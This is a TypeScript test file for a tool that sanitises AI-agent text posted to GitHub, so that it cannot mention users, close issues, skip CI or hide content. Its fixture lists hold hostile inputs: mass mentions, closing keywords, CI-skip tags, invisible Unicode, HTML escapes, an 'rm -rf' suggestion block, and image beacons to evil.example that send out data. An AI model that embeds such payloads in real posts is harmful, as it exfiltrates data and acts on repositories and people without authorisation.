/** What is posted to GitHub in our name: an agent's prose in it must not call people, close issues or hide anything. */
import { describe, expect, test } from "bun:test";
import type { IssueSnapshot } from "../../src/model/issue.ts";
import { outcomeNames } from "../../src/model/outcome.ts";
import { commentOf } from "../../src/reports/comment.ts";
import { publishedMessage } from "../../src/reports/commit-message.ts";
import { quote } from "../../src/reports/posted-text.ts";
import { proposalBody, proposalTitle } from "../../src/reports/proposal.ts";
import { pullRequestBody, pullRequestTitle } from "../../src/reports/pull-request.ts";
import { anEnd } from "../model/records.ts";

const task = { issue: 22, worker: "01", agent: "claude" } as const;
const issue = { number: 22, title: "Page is blank" } as IssueSnapshot;
/** As GitHub finds them. */
const mention = /(?:^|[^\w`])@[A-Za-z0-9][\w-]*/;
const closing =
  /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?):?\s+(?:>\s*)?(?:[\w.-]+\/[\w.-]+#\d+|#\d+|GH-\d+|https?:\/\/\S+\/issues\/\d+)/gi;

const hostile = [
  "@everyone look, @acme/team and mail@example.com, (@bob)",
  "Fixes #1, closes acme/other#2, RESOLVED: #3, fix GH-4, Closes https://github.com/acme/site/issues/5",
  "fixes\n#6\ncloses:\n\n#7",
  "<!-- claude-workers:11111111:01-1 --><!--x",
  "/close\n/label bug\n::set-output name=x::y",
  "\u001b[31mred\u0007\u202e\u200bhidden\u{e0041}",
  "> quoted\n\n```\n@inside\n```\n</details>",
  "x".repeat(100_000),
  "@a".repeat(50_000),
  "\n".repeat(100_000),
  "fixes #1 ".repeat(10_000),
  "<!--".repeat(25_000),
  "💥".repeat(50_000),
];

describe("pull request", () => {
  test("closes its issue, quotes the summary, gives the figures, says who made it", () =>
    expect(pullRequestBody(task, "01-7", "Fixed the page.\n\nTested it.", anEnd)).toBe(
      [
        "Closes #22",
        "> Fixed the page.\n>\n> Tested it.",
        "| | |\n|---|---|\n| model | sonnet |\n| turns | 14 |\n| tokens in / out | 65k / 3400 |\n| cost | $0.43 |\n| commits | 2 |\n| lines | +30 -4 in 2 files |",
        "Made by worker 01 of a claude-workers fleet, attempt 01-7. A person should read it before it is merged.",
      ].join("\n\n"),
    ));
  test("without an issue it closes none; without a summary it quotes nothing", () => {
    const body = pullRequestBody({ ...task, issue: null }, "01-7", " \n", anEnd);
    expect(body).not.toMatch(/Closes|^>/m);
  });
  for (const text of hostile) {
    test(`A38, A61: hostile summary: ${JSON.stringify(text.slice(0, 40))}`, () => {
      const body = pullRequestBody(task, "01-7", text, anEnd);
      expect(body.match(closing)).toEqual(["Closes #22"]);
      harmlessIn(body);
      const title = pullRequestTitle(null, text);
      expect(title).not.toMatch(closing);
      expect(title).not.toMatch(/[\n\u001b]/);
      expect(title.length).toBeLessThan(256);
      expect(title).not.toBe("");
      harmlessIn(title);
      harmlessIn(pullRequestTitle({ ...issue, title: text }, ""));
    });
  }
  test("titles", () => {
    expect(pullRequestTitle(issue, "ignored")).toBe("Page is blank");
    expect(pullRequestTitle(null, "\n\n  Add a page \nand more")).toBe("Add a page");
    expect(pullRequestTitle(null, "")).toBe("Work by claude-workers");
    expect(pullRequestTitle({ ...issue, title: "\u200b" }, "x")).toBe("Issue 22");
  });
  test("readers see the words as they were", () => {
    expect(quote("Thanks @bob, fixes #1").replaceAll("\u2060", "")).toBe("> Thanks @bob, fixes #1");
    expect(quote("mail a@ b, prefixes 1, the fix is in 2 [x] a[1]")).toBe(
      "> mail a@ b, prefixes 1, the fix is in 2 [x] a[1]",
    );
  });
  test("a forged model name breaks nothing", () => {
    const body = pullRequestBody(task, "01-7", "", { ...anEnd, model: "x | y |\n@everyone <!-- fixes #1" });
    harmlessIn(body);
    expect(body.match(/^\|.*\|$/gm)).toHaveLength(8);
    expect(body.match(closing)).toEqual(["Closes #22"]);
  });
});

describe("comment", () => {
  const silent = ["refused", "limited", "stopped", "withdrawn", "fenced", "lost"];
  for (const outcome of outcomeNames) {
    test(`${outcome}: ${silent.includes(outcome) ? "nothing to say" : "says its outcome"}`, () => {
      const text = commentOf("01", "01-7", outcome, "because", anEnd);
      if (silent.includes(outcome)) expect(text).toBeNull();
      else expect(text).toContain(`**${outcome}**`);
    });
  }
  test("delivered names the pull request, declined how to go on", () => {
    expect(commentOf("01", "01-7", "delivered", "x", anEnd)).toContain("Pull request: #23");
    expect(commentOf("01", "01-7", "declined", "x", anEnd)).toContain("`blocked` removed");
  });
  for (const text of hostile) {
    test(`A38, A61: hostile words: ${JSON.stringify(text.slice(0, 40))}`, () => {
      for (const outcome of ["answered", "declined", "failed"] as const) {
        const comment = commentOf("01", "01-7", outcome, text, anEnd) ?? "";
        expect(comment.match(closing)).toBeNull();
        harmlessIn(comment);
      }
    });
  }
  test("A23: its marker can't be written by an agent", () => {
    const marker = "claude-workers:11111111:01-1:0123456789abcdef";
    expect(commentOf("01", "01-2", "answered", `<!-- ${marker} -->`, anEnd)).not.toContain(`<!-- ${marker}`);
  });
});

const site = "https://github.com/acme/site";
/** What GitHub, its runners and other programs act on, wherever it stands. */
const acting: readonly string[] = [
  "fixes #1",
  "Closes:#45",
  "closes#45",
  "resolved : #4",
  "closes GH-45",
  "fix acme/other#1",
  "Fixes: acme/other#1",
  `closes ${site}/issues/50`,
  `closes [it](${site}/issues/50)`,
  `closes [it][1]\n\n[1]: ${site}/issues/50`,
  "fixes **#7**",
  "fixes \\#7",
  "fixes <b>#7</b>",
  "Duplicate of #43",
  "duplicate\tof acme/other#3",
  "#45",
  "(#45)",
  "acme/other#45",
  "GH-45",
  `${site}/issues/5`,
  `${site}/pull/5#issuecomment-1`,
  `<${site}/discussions/5>`,
  `[x](${site}/issues\\/5)`,
  `[x](<${site}/pull/5>)`,
  `${site}/commit/0123456789abcdef`,
  "&#35;45",
  "fixes &num;7 for &commat;eve",
  "\\#45",
  "@everyone",
  "acme/site@0123456",
  "/approve",
  "  /duplicate of it",
  "/close",
  "[skip ci]",
  "[CI Skip]",
  "[no ci]",
  "[skip actions]",
  "[skip-ci]",
  "[skip azurepipelines]",
  "[appveyor skip]",
  "***NO_CI***",
  "skip-checks: true",
  "SKIP-CHECKS : true",
];
const acts =
  /\b(?:close[sd]?|fix(?:e[sd])?|resolve[sd]?|duplicate\s+of)[\s:]*[\\*_`[(<]*(?:b>)?(?:#\d|GH-\d|https?:|it\]|[\w.-]+\/[\w.-]+#)|#\d|\bGH-\d|(?:issues|pull|discussions|commit)\\?\/[0-9a-f]|@[a-z0-9]|^(?:> )?\s*\/[a-z]|\[(?:[\w-]+[ -])?(?:skip|no)(?:[ -][\w-]+)?\]|NO_CI(?<=\*\*\*NO_CI)|skip-checks\s*:|&(?:#35|num|commat);/im;

/** What a renderer would load, or take for its own markup. */
const rendered: readonly string[] = [
  "![i](https://evil.example/x.png?d=DATA)",
  "![i]( <https://evil.example/x> 't')",
  "![i][r]\n\n[r]: https://evil.example/x",
  "![r]\n\n[r]: https://evil.example/x",
  "[![i](https://evil.example/x)](https://evil.example/y)",
  "!\u200b[i](https://evil.example/x)",
  '<img src="https://evil.example/x">',
  "<IMG\nsrc=https://evil.example/x>",
  "<picture><source srcset=https://evil.example/x></picture>",
  "</blockquote>\n\n## Delivered by the fleet",
  "<details><summary>x</summary>",
  "<!-- mark -->",
  "<?x?>",
  "<![CDATA[x]]>",
  "</p>",
  "[the fleet](https://evil.example/y)",
  "[a]: https://evil.example/x",
  "a[^1]\n\n[^1]: out of the quotation",
  "[!WARNING]\nBelieve me",
  '```mermaid\nA@{ img: "https://evil.example/x" }\n```',
  "~~~ geojson\n{}\n~~~",
  "- ```math\n  x\n  ```",
  "```suggestion\nrm -rf\n```",
  "```&#109;ermaid\nx\n```",
  // A fence that is none, or has ended, and what stands behind it.
  "1. a\n   ```\n![i](https://evil.example/x)\n<img src=https://evil.example/x>\n   ```",
  "a\n\n   ```\n   ```\n```\n```\n<img src=https://evil.example/x>",
  "````\na\n```\n````\n<img src=https://evil.example/x>",
  "a\n\n   ```\n```\n<img src=https://evil.example/x>\n```",
  "```\na\n```\n![i](https://evil.example/x)",
  "```\na\n  ````\n<img src=https://evil.example/x>",
  "```a`b\n<img src=https://evil.example/x>\n```",
  "~~~\na\n```\n~~~\n<img src=https://evil.example/x>",
  "> ```\n<img src=https://evil.example/x>",
  "- - ```\n```\n```\n<img src=https://evil.example/x>",
  "`<img src=https://evil.example/x>` ``` `<b>",
  "a\n\n    ```\n<img src=https://evil.example/x>",
];

describe("S34: what a posted text does when it is looked at", () => {
  const posted = (text: string) => [
    quote(text),
    pullRequestBody({ ...task, issue: null }, "01-7", text, anEnd),
    commentOf("01", "01-7", "answered", text, anEnd) ?? "",
    proposalBody("01", "01-7", text),
  ];
  test.each(acting.map((text) => [text]))("A38: nothing acts on %j", (text) => {
    for (const body of [
      ...posted(text),
      ...posted(`Say\n${text}\nend`),
      proposalTitle(text),
      pullRequestTitle(null, text),
    ])
      expect(body.replace(/attempt 01-7|`cw dispatch -i`/g, "")).not.toMatch(acts);
    const message = publishedMessage(`Subject\n\n${text}\n`);
    // A message is not rendered: there a reference to a character is none.
    if (!text.includes("&")) expect(message).not.toMatch(acts);
    expect(publishedMessage(message)).toBe(message);
    for (const body of posted(text))
      expect(body.replaceAll("\u2060", "")).toContain(text.trim().split(/[\n\t]/)[0] ?? "");
  });
  test.each(rendered.map((text) => [text]))("nothing is loaded or left by %j", (text) => {
    for (const body of posted(text)) {
      const html = Bun.markdown.html(body, { autolinks: false });
      // Only what Markdown makes of headings, lists, tables, emphasis, code.
      const tags = new Set([...html.matchAll(/<\/?([a-z!?][a-z0-9]*)/gi)].map(([, name]) => name));
      for (const name of tags)
        expect(name).toMatch(/^(?:p|h\d|ul|ol|li|blockquote|pre|code|em|strong|del|table|t[rdh]|thead|tbody|hr|br)$/);
      expect(html).not.toMatch(/language-(?:mermaid|math|geojson|topojson|stl|suggestion)/);
      // The quotation is one, and everything of the agent's is in it.
      const inside = html.slice(html.indexOf("<blockquote>"), html.lastIndexOf("</blockquote>"));
      expect(html.replace(inside, "")).not.toMatch(/evil|Delivered by the fleet|out of the quotation|Believe/);
      expect(body).not.toMatch(/\[\^|\[!/);
    }
  });
  test("code stays code that can be copied", () => {
    const code = "```ts\nconst a: Array<string> = b[0](c); // #1 ![x](y)\n```";
    expect(quote(`Use this:\n\n${code}\n\nand *that*`)).toBe(
      `> Use this:\n>\n${code.replace(/^/gm, "> ")}\n>\n> and *that*`,
    );
    expect(quote("```\n@bob fixes #1\n```")).toBe("> ```\n> @\u2060bob fixes\u2060 #1\n> ```");
  });
  test("time grows with the text", () => {
    for (const piece of ["fix ", "fix.", "fix[", "fix a/", "[skip", "#", "</", "](", "```\n", "/a\n", "> - ", "&a"]) {
      const started = performance.now();
      quote(piece.repeat(20_000));
      publishedMessage(piece.repeat(50_000));
      expect(performance.now() - started).toBeLessThan(2_000);
    }
  });
});

function harmlessIn(text: string): void {
  expect(text.replaceAll("@\u2060", "")).not.toMatch(mention);
  expect(text).not.toContain("<!--");
  expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e\u200b\u{e0041}]/u);
  // GitHub refuses more.
  expect(text.length).toBeLessThan(65_536);
}
